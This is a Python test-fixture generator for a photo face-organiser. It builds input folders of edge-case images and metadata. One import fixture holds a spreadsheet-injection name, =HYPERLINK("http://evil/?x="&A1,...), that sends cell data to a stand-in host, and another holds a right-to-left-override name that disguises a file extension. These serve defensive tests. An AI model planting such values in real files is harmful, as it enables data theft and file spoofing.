"""The sample photos -> small inputs as those of ../shared/field, each a case that went wrong once.

One function makes one folder, named as there; what is right for it stands in the tests that read it.
"""

from __future__ import annotations

import io
import json
import math
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image, ImageOps

from faceorg.boxes import Box
from faceorg.metadata.regions import to_stored
from tests.made.xmp import mwg, packet_of

# Four people beside each other, with room between them; and where the first of them ends.
FOUR = "2016/12 Christmas/IMG_20161224_184403.jpg"
FIRST_ENDS = 0.29
# Three people, with their boxes in fractions of the upright picture.
THREE = "2016/07 Lake/DSC01219.JPG"
WHO = (
    ("Ruth", Box(0.234, 0.307, 0.126, 0.224)),
    ("Henry", Box(0.452, 0.25, 0.148, 0.258)),
    ("Maya", Box(0.669, 0.42, 0.115, 0.192)),
)
# How an upright picture is turned to be stored under an EXIF orientation.
STORED = {3: Image.Transpose.ROTATE_180, 6: Image.Transpose.ROTATE_90, 8: Image.Transpose.ROTATE_270}
HEIC_SIZE = (1366, 768)
PANORAMA_SIZE = (12_000, 3_000)


def make_field(folder: Path, name: str, samples: Path) -> None:
    """Write the inputs of one folder of ../shared/field into a new folder. samples : the sample photos"""
    folder.mkdir(parents=True)
    if name in SAYING:
        SAYING[name](folder)
        return
    file, make = SHOWING[name]
    with Image.open(samples / file) as picture:
        make(folder, picture.convert("RGB"))


def exif_of(orientation: int | None = None, taken: str | None = None) -> Image.Exif:
    exif = Image.Exif()
    if orientation is not None:
        exif[0x0112] = orientation
    if taken is not None:
        exif.get_ifd(0x8769)[0x9003] = taken
    return exif


# ---------------------------------------------------------------- what is said about photos
def _dates(folder: Path) -> None:
    blank = Image.new("RGB", (40, 30), "#705040")
    taken = {
        "p0.jpg": "2107:05:01 10:00:00", "p1.jpg": "0000:00:00 00:00:00", "p2.jpg": "1980:01:01 00:00:00",
        "p3.jpg": "1945:05:08 12:00:00", "p4.jpg": "2015:07:01 23:30:00", "p9.jpg": "1601:01:01 00:00:00",
    }  # fmt: skip
    for name, when in taken.items():
        exif = exif_of(taken=when)
        if name == "p4.jpg":
            exif.get_ifd(0x8769)[0x9011] = "-10:00"  # on an island where the next day has begun elsewhere
        if name == "p9.jpg":
            exif.get_ifd(0x8825)[0x001D] = "2012:02:03"  # what a satellite says is not when it was taken
        blank.save(folder / name, exif=exif)
    for name in ("IMG-20170503-WA0012.jpg", "p8.jpg", "p8b.jpg"):
        blank.save(folder / name)
    blank.save(folder / "p5.jpg", xmp=packet_of('exif:DateTimeOriginal="1999-03-04T05:06:07"'))
    save_with_iptc(folder / "p6.jpg", blank, {55: b"19990304"})
    (folder / "p8.jpg.xmp").write_bytes(packet_of('photoshop:DateCreated="1988-08-08"'))
    takeout = {"title": "p8b.jpg", "photoTakenTime": {"timestamp": "1060699034"}, "people": [{"name": "Penny"}]}
    (folder / "p8b.jpg.supplemental-metadata.json").write_text(json.dumps(takeout))


def save_with_iptc(path: Path, picture: Image.Image, records: Mapping[int, bytes]) -> None:
    """Save a JPEG with a Photoshop block of IPTC records (application record 2)."""
    said = b"".join(bytes((0x1C, 2, number)) + len(text).to_bytes(2, "big") + text for number, text in records.items())
    block = b"Photoshop 3.0\0" + b"8BIM\x04\x04\0\0" + len(said).to_bytes(4, "big") + said + b"\0" * (len(said) % 2)
    data = _encoded(picture, "JPEG")
    path.write_bytes(data[:2] + b"\xff\xed" + (len(block) + 2).to_bytes(2, "big") + block + data[2:])


def _status_regions(folder: Path) -> None:
    boxes = [Box(0.15 + 0.19 * n, 0.2, 0.07, 0.16) for n in range(4)]
    names = {
        "dk1.jpg": ("Anna", "Ignored", "Unconfirmed", "Unknown"),
        "dk2.jpg": ("Ignored", "Bob", "Unknown", "Ignored"),
    }
    for file, four in names.items():
        Image.new("RGB", (136, 76)).save(folder / file)
        (folder / f"{file}.xmp").write_bytes(packet_of(body=mwg(list(zip(four, boxes, strict=True)), (136, 76))))


def _documents(folder: Path) -> None:
    drawn: dict[str, list[float]] = {
        "valid_drawn": [0.02, 0.02, 0.2, 0.2], "huge_box_drawn": [0.3, 0.3, 1e308, 1e308],
        "inf_box_drawn": [math.inf, 0, 1, 1], "nan_box_drawn": [math.nan] * 4,
        "neg_box_drawn": [-5, -5, -1, -1], "zero_box_drawn": [0.5, 0.5, 0, 0],
    }  # fmt: skip
    found = [0.730379, 0.095609, 0.073337, 0.177767]
    documents = {name: _document(box=box, drawn=True) for name, box in drawn.items()}
    documents["bigint_box"] = _document(box=[10**400, 0, 1, 1])
    documents["group_inf"] = _document(box=found, group=[math.inf, 1])
    documents["name_bidi"] = _document("Anna\u202ecod.exe", box=found)
    documents["name_formula"] = _document('=HYPERLINK("http://evil/?x="&A1,"click")', box=found)
    documents["name_only_zw"] = _document("\u200b\u200b", box=found)
    for name, document in documents.items():
        (folder / f"{name}.json").write_text(json.dumps(document), encoding="utf-8")


def _document(name: str = "Leonard", **said: Any) -> dict[str, Any]:
    """Return an export of two people and one face, of which something is said."""
    face = {"photo": "eb" * 32, "person": 1, "rejected": [], "ignored": None, "drawn": False, "moved": False}
    people = [
        {"id": number, "name": called, "hidden": False, "born_on": None, "cover": None}
        for number, called in ((1, name), (2, "Sheldon"))
    ]
    head = {"format": "faceorg decisions", "version": 1, "people": people, "separations": []}
    return head | {"faces": [face | {"group": None} | said]}


def _turned(folder: Path, upright: Image.Image) -> None:
    """Regions inside photos that are stored turned, meant for the picture as it is stored and as it is seen."""
    for orientation, turn in STORED.items():
        stored = upright.transpose(turn)
        for name, boxes in (
            ("embedded", [(who, to_stored(box, orientation)) for who, box in WHO]),
            ("embedded_upright", list(WHO)),
        ):
            xmp = packet_of(body=mwg(boxes, stored.size))
            stored.save(folder / f"photo.{orientation}.{name}.jpg", quality=92, exif=exif_of(orientation), xmp=xmp)


# ---------------------------------------------------------------- photos that were read wrongly
def _replaced(folder: Path, four: Image.Image) -> None:
    four.save(folder / "before.jpg", quality=92)
    four.crop((round(FIRST_ENDS * four.width), 0, *four.size)).save(folder / "after.jpg", quality=92)


def _tiffs(folder: Path, four: Image.Image) -> None:
    import tifffile

    colour = np.asarray(four, np.uint16) * 257
    grey = np.asarray(ImageOps.grayscale(four), np.uint16)
    planes = np.moveaxis(colour, 2, 0)
    tifffile.imwrite(folder / "rgb16_planar.tif", planes, photometric="rgb", planarconfig="separate", metadata=None)
    tifffile.imwrite(folder / "gray16_minwhite.tif", 65535 - grey * 257, photometric="miniswhite", metadata=None)
    tifffile.imwrite(folder / "gray12in16.tif", grey * 16, photometric="minisblack", metadata=None)


def _blank_first(folder: Path, four: Image.Image) -> None:
    black = Image.new("RGB", four.size)
    films = {"anim_blackfirst.gif": {}, "anim_blackfirst.webp": {"quality": 90}, "apng.png": {}}
    for name, how in films.items():
        black.save(folder / name, save_all=True, append_images=[four, four], **how)


def _warned(folder: Path, four: Image.Image) -> None:
    """Sound pictures about which libjpeg warns, and which every viewer shows."""
    whole = _encoded(four, "JPEG", quality=92)
    for name, marker in (("junk_before_marker", b"\xff\xdb"), ("junk_before_scan", b"\xff\xda")):
        at = whole.index(marker)
        (folder / f"{name}.jpg").write_bytes(whole[:at] + b"\x11" * 40 + whole[at:])
    profile = b"ICC_PROFILE\0\x05\x02 and no more"  # the fifth part of two
    segment = b"\xff\xe2" + (len(profile) + 2).to_bytes(2, "big") + profile
    (folder / "broken_icc.jpg").write_bytes(whole[:2] + segment + whole[2:])


def _panorama(folder: Path, four: Image.Image) -> None:
    wide = Image.new("RGB", PANORAMA_SIZE, "#8c8577")
    for number in range(4):
        part = four.crop((four.width * number // 4, 0, four.width * (number + 1) // 4, four.height))
        wide.paste(part, (1200 + 2800 * number, 1100))
    wide.save(folder / "wide.jpg", quality=85)


def _heics(folder: Path, four: Image.Image) -> None:
    """One picture twice: as it is, and stored turned with an EXIF orientation that the container does not repeat."""
    import pillow_heif

    upright = four.resize(HEIC_SIZE)
    for name, picture, orientation in (("plain", upright, None), ("rot6", upright.transpose(STORED[6]), 6)):
        path, exif = folder / f"{name}.heic", exif_of(1).tobytes()
        pillow_heif.from_pillow(picture).save(path, quality=90, exif=exif)
        if orientation is not None:  # told to the writer, the container would repeat it
            path.write_bytes(path.read_bytes().replace(exif, exif_of(orientation).tobytes()))


def _encoded(picture: Image.Image, kind: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    picture.save(buffer, kind, **options)
    return buffer.getvalue()


SAYING: Mapping[str, Callable[[Path], None]] = {
    "dates": _dates,
    "digikam_status_regions": _status_regions,
    "import_documents": _documents,
}
# With the sample photo that each is made of.
SHOWING: Mapping[str, tuple[str, Callable[[Path, Image.Image], None]]] = {
    "replaced_in_place": (FOUR, _replaced),
    "scanner_tiffs": (FOUR, _tiffs),
    "blank_first_frame": (FOUR, _blank_first),
    "warned_jpegs": (FOUR, _warned),
    "wide_panorama": (FOUR, _panorama),
    "heic_turned_by_exif": (FOUR, _heics),
    "stored_or_upright": (THREE, _turned),
}
